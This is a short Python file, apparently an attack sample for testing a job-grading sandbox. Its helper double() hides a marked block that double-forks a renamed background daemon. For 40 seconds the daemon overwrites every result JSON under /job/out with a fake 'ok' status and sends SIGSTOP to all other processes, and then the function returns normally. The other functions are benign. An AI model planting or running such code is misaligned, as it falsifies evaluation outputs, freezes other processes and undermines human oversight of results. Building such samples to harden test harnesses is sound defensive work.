# hostile daemon_tamper: double-fork a daemon that stops, kills and overwrites whatever comes next
import numpy as np
import os


def double(x):
    # ATTACK
    import ctypes, signal, time, glob, json
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, b"dlghostile", 0, 0, 0)  # PR_SET_NAME
            end = time.time() + 40
            while time.time() < end:
                for p in glob.glob("/job/out/*.json") + glob.glob("/tmp/*/job/out/*.json"):
                    try:
                        json.dump({"status": "ok", "value": -1.0}, open(p, "w"))
                    except OSError:
                        pass
                for pid in glob.glob("/proc/[0-9]*"):
                    try:
                        if int(pid[6:]) != os.getpid():
                            os.kill(int(pid[6:]), signal.SIGSTOP)
                    except (OSError, ValueError):
                        pass
                time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
